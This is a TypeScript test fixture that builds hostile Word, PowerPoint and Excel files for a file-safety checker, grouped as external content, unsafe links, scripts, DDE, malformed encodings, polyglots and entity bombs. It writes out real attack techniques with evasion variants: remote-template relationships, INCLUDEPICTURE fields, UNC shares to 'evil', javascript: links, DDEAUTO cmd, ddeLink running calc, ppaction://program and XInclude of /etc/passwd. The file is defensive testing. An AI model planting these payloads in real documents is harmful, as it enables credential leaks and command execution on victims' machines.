import {
  docx,
  docxWithExternal as withExternal,
  docxWithField as withField,
  docxWithPart as withPart,
  field,
  fieldCharacter,
  fieldCode as code,
  pptxWithExternal,
  pptxWithPart,
  relationshipsPart,
  xlsxWithExternal,
  xlsxWithPart,
} from '../writers/ooxml.ts';
import { hostileFilesOf } from './hostile-file.ts';

const withRels = (data: Buffer | string) => withPart('word/_rels/settings.xml.rels', data);
const withRelationship = (attributes: string) =>
  withRels(`<Relationships><Relationship Id="a" ${attributes}/></Relationships>`);
const inBody = (body: string) => docx({ body });
const inPicture = (element: string) => inBody(`<w:p><w:r><w:pict>${element}</w:pict></w:r></w:p>`);
const imageData = (attributes: string) => inPicture(`<v:imagedata ${attributes}/>`);
const shape = (attributes: string) => inPicture(`<v:shape ${attributes}/>`);
const withSvg = (content: string, name = 'a.svg') =>
  withPart(`word/media/${name}`, `<svg xmlns="a">${content}</svg>`);
/** A part whose name tells nothing about its content. */
const withData = (data: string) => withPart('word/a.dat', data);
const withXml = (data: string) => withPart('word/a.xml', data);
const withSettings = (data: string) => withPart('word/settings.xml', data);
const withSlide = (data: string) => pptxWithPart('ppt/slides/slide2.xml', data);
const withClick = (action: string) => withSlide(`<a:hlinkClick action="${action}"/>`);
const withWorkbook = (data: Buffer) => pptxWithPart('ppt/embeddings/a.xlsx', data);
/** A field whose instruction contains the result of another one. */
const computed = (before: string, after = '') =>
  inBody(field(`${code(before)}${field(code('REF a'))}${after && code(after)}`));
const app = (base: string) =>
  withPart('docProps/app.xml', `<Properties><HyperlinkBase>${base}</HyperlinkBase></Properties>`);

const templates = relationshipsPart([
  { kind: 'attachedTemplate', target: 'http://x.example', external: true },
]);
const undeclared = templates.replace(/^<\?xml[^>]*>\s*/, '');
const swapped = (text: string) => Buffer.from(text, 'utf16le').swap16();

/** Addresses in the attributes of a drawing, which no program writes there. */
const drawings = () => {
  const share = '\\\\evil\\x.png';
  return hostileFilesOf('docx', {
    'external-content': {
      'a VML picture from a share': imageData(`src="${share}"`),
      'a VML picture from the web': imageData('src="http://x.example/a.png"'),
      'a VML picture as a script': imageData('src="javascript:alert(1)"'),
      'a VML picture of a local file': imageData('src="file:///C:/a.png"'),
      'a VML picture, encoded': imageData('src="%5c%5cevil%5cx.png"'),
      'a VML picture, in references to characters': imageData('src="&#92;&#x5c;evil&#92;x.png"'),
      'a VML picture, after a space': imageData("src = '&#10; //evil/x.png'"),
      'a VML picture with another prefix': inPicture('<q:imagedata q:SRC="//evil/x.png"/>'),
      'a VML picture by its alternative': imageData('o:althref="http://x.example"'),
      'a VML fill from a share': inPicture(`<v:shape><v:fill src="${share}"/></v:shape>`),
      'a VML fill from the web': inPicture('<v:fill type="frame" src="https://x.example/a.png"/>'),
      'a VML stroke from the web': inPicture('<v:stroke src="http://x.example/a.png"/>'),
      'a VML style from the web': shape(
        'style="position:absolute;background:url(http://x.example)"',
      ),
      'a VML style with an escape': shape('style="background:\\75rl(//evil)"'),
      'a VML drawing in a part of its own': withPart(
        'word/drawings/vmlDrawing1.vml',
        '<xml><v:imagedata src="http://x.example"/></xml>',
      ),
      'a VML drawing by another name': withPart(
        'word/drawings/a.dat',
        '\n<xml><v:imagedata src="http://x.example"/></xml>',
      ),
      'an attribute that is not invented yet': inBody('<w:p x:fetch="http://x.example/a"/>'),
      'an address of no known scheme': inBody('<w:p x:fetch="ms-unknown:ofe|u|a"/>'),
      'a video with a web page': inBody(
        '<wp15:webVideoPr embeddedHtml="&lt;iframe src=&quot;http://x.example&quot;&gt;"/>',
      ),
      'a style sheet for its XML': withXml(
        '<?xml-stylesheet type="text/xsl" href="http://x.example/a.xsl"?><a/>',
      ),
      'a part that XInclude adds': inBody('<xi:include parse="text" href2="file:///etc/passwd"/>'),
      'a schema from the web': withSettings(
        '<w:settings><sl:schema sl:manifestLocation="http://x.example/m.xml"/></w:settings>',
      ),
      'a database for mail merge': withSettings(
        '<w:mailMerge><w:connectString w:val="Provider=MSDASQL;Data Source=x.example"/></w:mailMerge>',
      ),
      'a connection in an embedded workbook': withPart(
        'word/embeddings/a.xlsx',
        xlsxWithPart('xl/connections.xml', '<dbPr connection="DSN=x.example"/>'),
      ),
      'a vector picture with a share in its style': withSvg(
        '<style>rect{fill:url(//evil/x)}</style>',
      ),
      'a vector picture with a style from the web': withSvg('<style>@import "http://x"</style>'),
      'a vector picture with a paint from the web': withSvg('<rect fill="url(http://x/a#b)"/>'),
      'a vector picture by another name': withSvg('<image src="//evil/x"/>', 'a.png'),
    },
    'unsafe-link': {
      'a VML shape with a link to a share': shape(`href="${share}"`),
      'a VML shape with a link to the web': shape('href="http://x.example"'),
      'a VML shape with a link to JavaScript': shape('href="javascript:alert(1)"'),
      'a VML shape with a link to JavaScript in pieces': shape(
        'o:href="java&#9;script&#58;alert(1)"',
      ),
      'a vector picture with a picture from the web': withSvg(
        '<image xlink:href="http://x.example/a.png"/>',
      ),
      'a vector picture with a link to JavaScript': withSvg(
        '<a xlink:href="javascript:alert(1)"/>',
      ),
      'an invalid address of a link': inBody('<a:hlinkClick invalidUrl="\\\\evil\\x"/>'),
    },
    script: {
      'a vector picture with an event': withSvg('<rect onmouseover="alert(1)"/>'),
      'a vector picture with a script and a prefix': withPart(
        'word/media/a.svg',
        '<s:svg xmlns:s="a"><s:script>alert(1)</s:script></s:svg>',
      ),
      'a vector picture with a script by another name': withPart(
        'word/media/a.dat',
        '<svg><script>alert(1)</script></svg>',
      ),
    },
  });
};

const relationships = () =>
  hostileFilesOf('docx', {
    'external-content': {
      'a picture from a share, encoded': withExternal('image', '%5c%5cevil%5cx.png'),
      'a picture from a share, encoded twice': withExternal('image', '%255c%255cevil/x.png'),
      'a picture from a share, as an encoded URL': withExternal('image', 'file:%2f%2fevil/x.png'),
      'a picture by FTP': withExternal('image', 'ftp://x.example/a.png'),
      'a picture of an unknown scheme': withExternal('image', 'ms-unknown:a'),
      'a part from a share': withRelationship('Type="x/image" Target="\\\\evil\\x.png"'),
      'a part from a share, encoded': withRelationship('Type="x/image" Target="%5c%5cevil/x.png"'),
      'a part from the web': withRelationship('Type="x/image" Target="http://x.example/a.png"'),
      'a part of a local file': withRelationship('Type="x/settings" Target="file:///C:/a.xml"'),
      'a template, external in lower case': withRelationship(
        'Type="x/attachedTemplate" Target="http://x.example" TargetMode="external"',
      ),
      'a template, external after a space': withRelationship(
        'Type="x/attachedTemplate" Target="http://x.example" TargetMode=" External"',
      ),
      'a part of an unknown mode': withRelationship(
        'Type="x/settings" Target="a.xml" TargetMode="Elsewhere"',
      ),
      'a kind that is not invented yet': withExternal('hologram', 'https://x.example/a'),
      'a kind that is not invented yet, of a local file': withExternal('hologram', 'C:\\a.txt'),
      'a kind in capitals': withExternal('HYPERLINK2', 'https://x.example/a'),
      'a frame of a local file': withExternal('frame', 'file:///C:/a.htm'),
      'a transformation from the web': withExternal('transform', 'https://x.example/a.xsl'),
      'a source of mail merge on the web': withExternal('mailMergeSource', 'https://x.example/a'),
      'a strict relationship to a template': withRelationship(
        'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="http://x.example" TargetMode="External"',
      ),
      'a template in relationships with a prefix': withRels(
        '<p:Relationships xmlns:p="a"><p:Relationship Id="a" Type="x/attachedTemplate" TargetMode="External" Target="&#104;ttp://x.example"/></p:Relationships>',
      ),
      'relationships by another name': withData(undeclared),
      'a base of its links on a share': app('\\\\evil\\share\\'),
      'a base of its links on the web': app('http://x.example/'),
      'a base of its links, in characters of CDATA': app('<![CDATA[http:]]>//x.example/'),
      'a base of its links of JavaScript': app('javascript:'),
      'a base of its links by another part': withPart(
        'docProps/b.xml',
        '<p:Properties xmlns:p="a"><p:HyperlinkBase>//evil</p:HyperlinkBase></p:Properties>',
      ),
      'a base of its links as a custom property': withPart(
        'docProps/custom.xml',
        '<Properties><property name="_PID_LINKBASE"><vt:blob>AAA=</vt:blob></property></Properties>',
      ),
    },
    malformed: {
      'relationships in UTF-16 without a mark': withRels(Buffer.from(undeclared, 'utf16le')),
      'relationships in UTF-16, high byte first, without a mark': withRels(swapped(undeclared)),
      'relationships in UTF-16 that declare UTF-8': withRels(
        Buffer.from(`\ufeff${templates}`, 'utf16le'),
      ),
      'relationships in UTF-32': withRels(
        Buffer.from([...`\ufeff${undeclared}`].map((each) => `${each}\0`).join(''), 'utf16le'),
      ),
      'relationships in UTF-7': withRels(templates.replace('UTF-8', 'UTF-7')),
      'relationships in characters of UTF-7': withRels(undeclared.replaceAll('<', '+ADw-')),
      'relationships in EBCDIC': withRels(Buffer.from('4c6fa7949340', 'hex')),
      'relationships in an encoding with shifts': withRels(
        templates.replace('UTF-8', 'ISO-2022-JP'),
      ),
      'a document in UTF-16 without a mark': withPart(
        'word/document.xml',
        Buffer.from('<w:document/>', 'utf16le'),
      ),
      'XML in EBCDIC by its declared type': docx({
        types: '<Override PartName="/word/a.dat" ContentType="application/a+xml"/>',
        parts: [{ name: 'word/a.dat', data: Buffer.from('4c6fa7949340', 'hex') }],
      }),
      'two targets': withRelationship('Type="x/hyperlink" x:Target="a" Target="http://x.example"'),
      'two modes': withRelationship(
        'Type="x/image" Target="a" x:TargetMode="Internal" TargetMode="External"',
      ),
    },
    'unsafe-name': {
      'a part in pieces': withPart('word/settings.xml/[0].piece', '<w:settings'),
      'relationships with an encoded name': withPart('word/_rels/settings.xml%2erels', 'a'),
    },
    polyglot: {
      'an OpenDocument text': withPart('META-INF/manifest.xml', '<manifest/>'),
      'an OpenDocument text by its type': withPart(
        'mimetype',
        'application/vnd.oasis.opendocument.text',
      ),
      'a program of Java': withPart('META-INF/MANIFEST.MF', 'Main-Class: a'),
    },
    bomb: {
      'a document type from the web': withXml('<!DOCTYPE a SYSTEM "http://x.example/a.dtd"><a/>'),
      'a vector picture with entities': withPart(
        'word/media/a.svg',
        '<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>',
      ),
      'entities in a part by another name': withData('<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'),
    },
  });

const fields = () =>
  hostileFilesOf('docx', {
    'external-content': {
      'a picture field from the web': withField('INCLUDEPICTURE "http://x.example/a.png"'),
      'a picture field from the web, after a switch': withField(
        'INCLUDEPICTURE \\d \\c png http://x.example/a.png',
      ),
      'a picture field from the web by its old name': withField('IMPORT "https://x.example/a.png"'),
      'a picture field of an encoded share': withField('INCLUDEPICTURE "%5c%5cevil/a.png"'),
      'a picture field at a computed address': computed('INCLUDEPICTURE '),
      'a picture field at an address of which a part is computed': computed(
        'INCLUDEPICTURE "h',
        '"',
      ),
      'a text from the web by its old name': withField('INCLUDE "https://x.example/a.docx"'),
      'a transformed text': withField('INCLUDETEXT "a.xml" \\t "http://x.example/a.xsl"'),
      'a document for an index': withField('RD "http://x.example/a.docx"'),
      'a deleted picture field': inBody(
        `<w:del><w:r><w:delInstrText>INCLUDEPICTURE "http://x.example"</w:delInstrText></w:r></w:del>`,
      ),
    },
    'dynamic-data': {
      'a query of a database': withField('DATABASE \\c "DSN=x" \\s "select"'),
      'a kind of field that another field computes': inBody(
        field(`${field(code('REF a'))}${code(' cmd')}`),
      ),
      'DDE around a field': inBody(
        field(`${code('DDE')}${field(code('PAGE'))}${code('AUTO cmd')}`),
      ),
      'DDE after its result began': inBody(
        `${fieldCharacter('begin')}${fieldCharacter('separate')}${code('DDEAUTO cmd')}${fieldCharacter('end')}`,
      ),
      'DDE in the second of two instructions': inBody(
        '<w:fldSimple w:instr="PAGE"/><w:fldSimple w:instr="DDEAUTO cmd"/>',
      ),
    },
    malformed: {
      'two instructions in a field': inBody('<w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd"/>'),
    },
    'unsafe-link': {
      'a field with a link to an unknown scheme': withField('HYPERLINK "ms-unknown:a"'),
      'a field with a link to an encoded share': withField('HYPERLINK "%5c%5cevil"'),
      'a field with a link of which a part is computed': computed('HYPERLINK "java', '"'),
      'a field with a computed link': computed('HYPERLINK '),
    },
  });

const presentations = () =>
  hostileFilesOf('pptx', {
    'launches-program': {
      'a click that starts a program, in references to characters':
        withClick('ppaction:&#47;/program'),
      'a click that starts a program, in capitals': withClick('PPAction://Program'),
      'a hover that starts a program': withSlide('<a:hlinkHover action="ppaction://program"/>'),
      'a click of no known action': withClick('ppaction://hologram'),
    },
    macro: {
      'a click that runs a macro, in capitals': withClick('PPACTION://MACRO'),
    },
    'external-content': {
      'a video with a web page': withSlide(
        '<p15:webVideoPr embeddedHtml="&lt;iframe src=&quot;//x.example&quot;>" h="1"/>',
      ),
      'a video with a web page, markup as written': withSlide(
        `<p15:webVideoPr embeddedHtml='&#60;object data="x">'/>`,
      ),
      'a sound from a share': pptxWithExternal('audio', 'file://evil/a.wav'),
      'a video from a share, encoded': pptxWithExternal('media', '%5C%5Cevil%5Ca.mp4'),
      'an address to publish to': withSlide('<p:htmlPubPr src="http://x.example"/>'),
      'DDE in an embedded workbook by its path': withWorkbook(
        xlsxWithExternal('externalLinkPath', '//evil'),
      ),
    },
    'dynamic-data': {
      'DDE in an embedded workbook': withWorkbook(
        xlsxWithPart(
          'xl/externalLinks/externalLink1.xml',
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        ),
      ),
    },
    'unsafe-link': {
      'a link to a protocol of Windows': pptxWithExternal('hyperlink', 'ms-officecmd:%7b%7d'),
    },
  });

/** Office files that refer to something that opening them must not load or run. */
export const hostileReferences = () => [
  ...drawings(),
  ...relationships(),
  ...fields(),
  ...presentations(),
];
